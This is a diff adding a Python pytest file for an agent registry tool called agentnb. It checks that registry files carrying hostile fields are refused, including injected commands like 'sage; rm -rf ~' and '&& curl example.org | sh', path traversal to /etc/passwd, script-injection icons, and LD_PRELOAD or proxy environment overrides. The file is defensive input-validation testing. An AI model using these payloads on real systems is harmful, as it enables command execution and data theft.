@@ -1,0 +1,257 @@
+"""The registry: what a file may say, which version an agent is run with, and how a newer file is brought."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from agentnb.agent import find, known
+from agentnb.agent.catalog import additions
+from agentnb.agent.registry import LARGEST, read_registry, runner_of, snapshot
+from agentnb.agent.registry_update import update_registry
+from agentnb.errors import UsageError
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+GOOD: dict[str, Any] = {
+    "id": "sage",
+    "name": "Sage",
+    "version": "1.2.3",
+    "description": "Knows all.",
+    "repository": "https://example.org/sage",
+    "icon": "./icon.svg",
+    "distribution": {"npx": {"package": "@sage/cli@1.2.3", "args": ["--acp", "--mode=x"], "env": {"SAGE_QUIET": "1"}}},
+}
+
+
+def text_of(*agents: dict[str, Any], **more: Any) -> bytes:
+    """A registry file with *agents*."""
+    return json.dumps({"version": "1.0.0", "agents": agents, "extensions": [], **more}).encode()
+
+
+def npx(**fields: Any) -> dict[str, Any]:
+    """A good agent with another npx distribution."""
+    return {**GOOD, "distribution": {"npx": {"package": "sage@1", **fields}}}
+
+
+def binary(**fields: Any) -> dict[str, Any]:
+    """A good agent that is a program to download."""
+    target = {"archive": "https://example.org/sage.tar.gz", "cmd": "./sage", **fields}
+    return {**GOOD, "distribution": {"binary": {"linux-x86_64": target}}}
+
+
+@pytest.fixture
+def settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """The user's settings folder."""
+    monkeypatch.setenv("AGENTNB_CONFIG_DIR", str(tmp_path / "settings"))
+    return tmp_path / "settings"
+
+
+def test_the_snapshot_runs_each_of_its_agents_with_a_version() -> None:
+    """And each of them is an agent that the catalogue knows: a snapshot adds no stranger."""
+    runners = [runner_of(agent) for agent in snapshot().agents]
+    assert all(runner is not None and ("==" in runner.package or "@" in runner.package[1:]) for runner in runners)
+    assert {spec.origin for spec in known()} == {"built in"}
+    assert len([spec for spec in known() if spec.runner is not None]) == len(runners)
+
+
+def test_an_agent_with_fields_and_distributions_of_later_versions_is_read() -> None:
+    """What is not known is ignored; a version that stands only beside the package pins it."""
+    agent = npx() | {"colour": "red"}
+    agent["distribution"] = {"docker": {"image": "x"}, "uvx": {"package": "sage-cli", "args": ["acp"]}}
+    (read,) = read_registry(text_of(agent, more=[1])).agents
+    runner = runner_of(read)
+    assert runner is not None
+    assert runner.words == ("uvx", "sage-cli==1.2.3", "acp")
+
+
+@pytest.mark.parametrize(
+    ("agent", "said"),
+    [
+        ({**GOOD, "id": "../../etc"}, "lower-case"),
+        ({**GOOD, "id": "Sage"}, "lower-case"),
+        ({**GOOD, "name": "  "}, "no name"),
+        ({**GOOD, "name": "Sage\u202eevil"}, "not shown"),
+        ({**GOOD, "name": "x" * 1001}, "too long"),
+        ({**GOOD, "version": "$(id)"}, "version"),
+        ({**GOOD, "repository": "javascript:alert(1)"}, "https"),
+        ({**GOOD, "icon": "<svg onload='alert(1)'/>"}, "icon"),
+        ({**GOOD, "icon": "data:image/svg+xml,<svg><script>alert(1)</script></svg>"}, "icon"),
+        ({**GOOD, "icon": "../../../etc/passwd"}, "icon"),
+        ({**GOOD, "icon": "/etc/passwd"}, "icon"),
+        ({**GOOD, "icon": "http://example.org/i.svg"}, "icon"),
+        (npx(package="sage; rm -rf ~"), "package"),
+        (npx(package="--package=evil"), "package"),
+        (npx(package="../evil"), "package"),
+        (npx(package="file:/tmp/evil"), "package"),
+        (npx(package="git+https://example.org/x.git"), "package"),
+        (npx(package="sage@$(id)"), "package"),
+        (npx(package=""), "package"),
+        (npx(args=["--acp", "&& curl example.org | sh"]), "shell syntax"),
+        (npx(args=["`id`"]), "shell syntax"),
+        (npx(args=["a\nb"]), "shell syntax"),
+        (npx(args=["%PATH%"]), "shell syntax"),
+        (npx(args=[""]), "empty"),
+        (npx(args=["x"] * 41), "more than 40"),
+        (npx(env={"PATH": "/evil"}), "PATH"),
+        (npx(env={"LD_PRELOAD": "/evil.so"}), "LD_PRELOAD"),
+        (npx(env={"node_options": "--require=/evil.js"}), "node_options"),
+        (npx(env={"npm_config_registry": "https://evil.example"}), "npm_config_registry"),
+        (npx(env={"https_proxy": "https://evil.example"}), "https_proxy"),
+        (npx(env={"A B": "1"}), "A B"),
+        (npx(env={"SAGE": "$(id)"}), "SAGE"),
+        ({**GOOD, "distribution": {"uvx": {"package": "sage @ https://evil.example/x.whl"}}}, "package"),
+        ({**GOOD, "distribution": {"uvx": {"package": "--from=evil"}}}, "package"),
+        (binary(cmd="../../bin/sh"), "archive"),
+        (binary(cmd="/bin/sh"), "archive"),
+        (binary(cmd="./a b; id"), "archive"),
+        (binary(archive="http://example.org/x.zip"), "https"),
+        (binary(archive="file:///etc/passwd"), "https"),
+    ],
+)
+def test_a_hostile_agent_is_refused_with_what_is_wrong(settings: Path, agent: dict[str, Any], said: str) -> None:
+    """The good one beside it does not help: the file is refused as a whole, and the old one stays."""
+    file = settings / "new.json"
+    settings.mkdir()
+    file.write_bytes(text_of({**GOOD, "id": "good"}))
+    update_registry(str(file))
+    file.write_bytes(text_of(GOOD | {"id": "fine"}, agent))
+    with pytest.raises(UsageError, match=said) as failure:
+        update_registry(str(file))
+    assert "not a registry that can be used" in str(failure.value)
+    assert find("good").origin == "registry"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"",
+        b"{",
+        b"\xff\xfe",
+        b"[]",
+        b"null",
+        b'{"version": "1.0.0"}',
+        b'{"version": "1.0.0", "agents": [{}]}',
+        b'{"version": "1.0.0", "agents": {"a": 1}}',
+        b"[" * 200_000,
+        text_of(GOOD, GOOD),
+        text_of(*({**GOOD, "id": f"a{number}"} for number in range(501))),
+        text_of(GOOD) + b" " * 10 * LARGEST,
+    ],
+    ids=lambda data: f"{len(data)} bytes",
+)
+def test_a_file_that_is_no_registry_or_far_too_large_is_refused(settings: Path, data: bytes) -> None:
+    """With a clear error; nothing is kept of it."""
+    settings.mkdir()
+    (settings / "new.json").write_bytes(data)
+    with pytest.raises(UsageError, match="not a registry that can be used"):
+        update_registry(str(settings / "new.json"))
+    assert not (settings / "registry.json").exists()
+
+
+@given(st.text(max_size=20), st.text(max_size=20), st.text(max_size=20))
+def test_whatever_a_registry_says_no_word_of_a_command_is_for_a_shell_or_an_option_of_npx(
+    package: str, argument: str, value: str
+) -> None:
+    """Either the file is refused, or the words are plain."""
+    agent = npx(package=package, args=[argument], env={"SAGE": value})
+    try:
+        (read,) = read_registry(text_of(agent)).agents
+    except UsageError:
+        return
+    runner = runner_of(read)
+    assert runner is not None
+    assert not runner.words[2].startswith(("-", ".", "/"))
+    assert not set("".join((*runner.words[2:], *runner.env.values()))) & set(";&|<>`$\n\r\\\"'(){}")
+
+
+def test_a_newer_registry_pins_the_version_of_a_known_agent_and_adds_one(settings: Path) -> None:
+    """Under the id that the registry has for it; one that only npx runs is an agent of its own, without an install."""
+    settings.mkdir()
+    newer = npx(package="opencode-ai@9.9.9", args=["acp"]) | {"id": "opencode"}
+    old_gemini = npx(package="@google/gemini-cli@0.27.3") | {"id": "gemini", "version": "0.27.3"}
+    (settings / "new.json").write_bytes(text_of(newer, old_gemini, GOOD, binary() | {"id": "packed"}))
+    updated = update_registry(str(settings / "new.json"))
+    assert (updated.agents, updated.versions[-1]) == (4, "packed 1.2.3")
+    runners = {spec.name: spec.runner for spec in known() if spec.runner is not None}
+    assert runners["opencode"].words == ("npx", "--yes", "opencode-ai@9.9.9", "acp")
+    assert runners["gemini"].package != "@google/gemini-cli@0.27.3"  # older than the first that works
+    assert (find("sage").install, find("sage").command) == (None, runners["sage"].words)
+    assert "packed" not in {spec.name for spec in known()}
+
+
+def test_a_registry_that_was_broken_by_hand_is_ignored_and_the_doctor_says_so(settings: Path) -> None:
+    """The agents of the snapshot stay."""
+    settings.mkdir()
+    (settings / "registry.json").write_text("{ my notes }")
+    assert find("opencode").runner is not None
+    assert [each for each in additions()[1] if "registry.json is ignored" in each]
+
+
+class Answers(BaseHTTPRequestHandler):
+    """Answers by the path: a registry, a redirect to a file, an error, more than enough."""
+
+    def do_GET(self) -> None:
+        """Answer."""
+        if self.path == "/moved":
+            self.send_response(302)
+            self.send_header("Location", "http://example.org/registry.json")
+            self.end_headers()
+            return
+        self.send_response({"/good": 200, "/endless": 200}.get(self.path, 503))
+        self.end_headers()
+        with contextlib.suppress(OSError):
+            self.wfile.write(b" " * 4 * LARGEST if self.path == "/endless" else text_of(GOOD))
+
+    def log_message(self, *_: Any) -> None:
+        """Say nothing."""
+
+
+@pytest.fixture
+def server() -> Iterator[str]:
+    """The address of a server on loopback."""
+    with ThreadingHTTPServer(("127.0.0.1", 0), Answers) as serving:
+        thread = threading.Thread(target=serving.serve_forever)
+        thread.start()
+        yield f"http://127.0.0.1:{serving.server_port}"
+        serving.shutdown()
+        thread.join()
+
+
+def test_a_registry_is_read_from_an_address(settings: Path, server: str) -> None:
+    """One on this machine needs no TLS."""
+    assert update_registry(f"{server}/good").path == str(settings / "registry.json")
+    assert find("sage").title == "Sage"
+
+
+@pytest.mark.parametrize(
+    ("address", "said"),
+    [
+        ("{server}/missing", "answered 503"),
+        ("{server}/moved", "begins with https"),
+        ("{server}/endless", "more than 1,024 KB"),
+        ("http://example.org/registry.json", "begins with https"),
+        ("file:///etc/passwd", "begins with https"),
+        ("ftp://127.0.0.1/x", "begins with https"),
+        ("https://", "begins with https"),
+        ("http://127.0.0.1:1/nobody", "could not be read"),
+        ("no-such-file.json", "no such file"),
+        ("/", "no such file"),
+    ],
+)
+def test_a_source_that_cannot_be_read_is_named_with_the_reason(
+    settings: Path, server: str, address: str, said: str
+) -> None:
+    """And nothing is kept."""
+    with pytest.raises(UsageError, match=said):
+        update_registry(address.format(server=server))
+    assert not (settings / "registry.json").exists()
